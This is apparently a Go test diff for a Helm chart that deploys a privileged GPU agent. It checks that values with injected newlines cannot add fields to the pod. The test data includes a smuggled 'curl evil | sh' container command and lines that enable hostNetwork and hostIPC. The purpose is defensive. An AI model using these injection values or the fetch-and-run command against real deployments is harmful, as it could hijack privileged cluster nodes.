@@ -476,9 +476,13 @@ func TestHelmChart(t *testing.T) {
 				if _, ok := lf.MigConfigs["mixed"]; !ok {
 					t.Errorf("mig-layouts.yaml has no layout mixed")
 				}
-				for _, want := range []string{"mig-config-file: /etc/gpud/mig-layouts.yaml", `mig-config: "mixed"`, "mig-strategy: single", "enforce-memory: kill"} {
-					if !strings.Contains(cm.Data["config.yaml"], want) {
-						t.Errorf("config.yaml lacks %q:\n%s", want, cm.Data["config.yaml"])
+				var conf map[string]any
+				if err := yaml.Unmarshal([]byte(cm.Data["config.yaml"]), &conf); err != nil {
+					t.Fatalf("config.yaml: %v", err)
+				}
+				for key, want := range map[string]string{"mig-config-file": "/etc/gpud/mig-layouts.yaml", "mig-config": "mixed", "mig-strategy": "single", "enforce-memory": "kill"} {
+					if got := fmt.Sprint(conf[key]); got != want {
+						t.Errorf("config.yaml %s: %q, want %q:\n%s", key, got, want, cm.Data["config.yaml"])
 					}
 				}
 			},
@@ -986,3 +990,108 @@ func TestHelmChartServerSideDryRun(t *testing.T) {
 }
 
 func ptrTo[T any](v T) *T { return &v }
+
+// TestHelmHostileValues: a value is text, never YAML. A newline in a
+// string value (an image tag, a name, a class name) must not add fields
+// to the privileged agent's pod (a command, host namespaces): the install
+// is refused, or what renders carries the value as one string. And
+// values.schema.json refuses, naming the value, what Kubernetes or the
+// image reference grammar would refuse only later (on a node, at pull
+// time, or in the middle of an install).
+func TestHelmHostileValues(t *testing.T) {
+	const cmd = "\n          command: [\"/bin/sh\", \"-c\", \"curl evil | sh\"]"
+	for _, tc := range []struct {
+		name   string
+		values map[string]any
+	}{
+		{name: "image tag", values: map[string]any{"image": map[string]any{"tag": "v1" + cmd}}},
+		{name: "image repository", values: map[string]any{"image": map[string]any{"repository": "ghcr.io/gpud/gpud" + cmd + " #"}}},
+		{name: "fullnameOverride", values: map[string]any{"fullnameOverride": "gpud\n      hostNetwork: true"}},
+		{name: "nameOverride", values: map[string]any{"nameOverride": "gpud\n      hostNetwork: true"}},
+		{name: "priority class", values: map[string]any{"agent": map[string]any{"priorityClassName": "system-node-critical\n      hostNetwork: true"}}},
+		{name: "runtime class", values: map[string]any{"agent": map[string]any{"runtimeClassName": "nvidia\n      hostIPC: true"}}},
+		{name: "scheduler priority class", values: map[string]any{"mode": "dra", "scheduler": map[string]any{"enabled": true,
+			"priorityClassName": "system-cluster-critical\n      hostNetwork: true"}}},
+		{name: "extra args", values: map[string]any{"agent": map[string]any{"extraArgs": []any{"--log-level=debug" + cmd}}}},
+		{name: "pod annotations", values: map[string]any{"agent": map[string]any{"podAnnotations": map[string]any{"a": "b" + cmd}}}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			files, err := helmTemplate(t, tc.values, false)
+			if err != nil {
+				t.Logf("refused: %v", err)
+				return
+			}
+			for _, name := range slices.Sorted(maps.Keys(files)) {
+				for i, doc := range bytes.Split([]byte(files[name]), []byte("\n---")) {
+					if len(bytes.TrimSpace(stripComments(doc))) == 0 {
+						continue
+					}
+					obj, err := helmDecode(doc)
+					if err != nil {
+						// Not YAML an install would send: refused, but by
+						// accident; the schema should have said why.
+						t.Errorf("%s doc %d does not decode (%v): the schema should refuse the value", name, i, err)
+						continue
+					}
+					var spec *corev1.PodSpec
+					switch o := obj.(type) {
+					case *appsv1.DaemonSet:
+						spec = &o.Spec.Template.Spec
+					case *appsv1.Deployment:
+						spec = &o.Spec.Template.Spec
+					default:
+						continue
+					}
+					if spec.HostNetwork || spec.HostIPC {
+						t.Errorf("%s: the value added host namespaces to the pod (hostNetwork %v, hostIPC %v)", name, spec.HostNetwork, spec.HostIPC)
+					}
+					for _, c := range spec.Containers {
+						if len(c.Command) != 0 {
+							t.Errorf("%s: the value set container %s's command %q", name, c.Name, c.Command)
+						}
+					}
+				}
+			}
+		})
+	}
+
+	long := strings.Repeat("a", 64)
+	for _, tc := range []struct {
+		name   string
+		values map[string]any
+		want   string // in the error
+	}{
+		{name: "tag with a space", values: map[string]any{"image": map[string]any{"tag": "v1 beta"}}, want: "/image/tag"},
+		{name: "tag too long", values: map[string]any{"image": map[string]any{"tag": strings.Repeat("1", 129)}}, want: "/image/tag"},
+		{name: "tag with a digest", values: map[string]any{"image": map[string]any{"tag": "v1@sha256:abc"}}, want: "/image/tag"},
+		{name: "uppercase repository path", values: map[string]any{"image": map[string]any{"repository": "ghcr.io/You/gpud"}}, want: "/image/repository"},
+		{name: "repository with a tag", values: map[string]any{"image": map[string]any{"repository": "ghcr.io/you/gpud:v1"}}, want: "/image/repository"},
+		{name: "uppercase fullname", values: map[string]any{"fullnameOverride": "GPUD"}, want: "/fullnameOverride"},
+		{name: "fullname too long", values: map[string]any{"fullnameOverride": long}, want: "/fullnameOverride"},
+		{name: "name with underscore", values: map[string]any{"nameOverride": "gpud_agent"}, want: "/nameOverride"},
+		{name: "priority class", values: map[string]any{"agent": map[string]any{"priorityClassName": "System Critical"}}, want: "/agent/priorityClassName"},
+		{name: "runtime class", values: map[string]any{"agent": map[string]any{"runtimeClassName": "NVIDIA"}}, want: "/agent/runtimeClassName"},
+		{name: "scheduler priority class", values: map[string]any{"scheduler": map[string]any{"priorityClassName": "a b"}}, want: "/scheduler/priorityClassName"},
+		{name: "pull secret", values: map[string]any{"imagePullSecrets": []any{map[string]any{"name": "my secret"}}}, want: "/imagePullSecrets/0/name"},
+		{name: "extra arg with a newline", values: map[string]any{"agent": map[string]any{"extraArgs": []any{"--log-level=debug\n--mps=false"}}}, want: "/agent/extraArgs/0"},
+		{name: "MIG config with a newline", values: map[string]any{"agent": map[string]any{"migConfig": "two\nthree"}}, want: "/agent/migConfig"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			_, err := helmTemplate(t, tc.values, false)
+			if err == nil || !strings.Contains(err.Error(), tc.want) {
+				t.Fatalf("render with %q: err = %v, want one naming %s", tc.values, err, tc.want)
+			}
+		})
+	}
+	// And what users set today still renders.
+	for _, vals := range []map[string]any{
+		{"image": map[string]any{"repository": "localhost:5000/gpud", "tag": "v0.1.0-rc.1_2"}},
+		{"image": map[string]any{"repository": "registry.example.com/team/gpu/gpud", "tag": ""}},
+		{"fullnameOverride": "gpu-agent", "nameOverride": "gpud2"},
+		{"agent": map[string]any{"priorityClassName": "", "runtimeClassName": "nvidia-cdi"}},
+	} {
+		if _, err := helmTemplate(t, vals, false); err != nil {
+			t.Errorf("render with %v: %v", vals, err)
+		}
+	}
+}
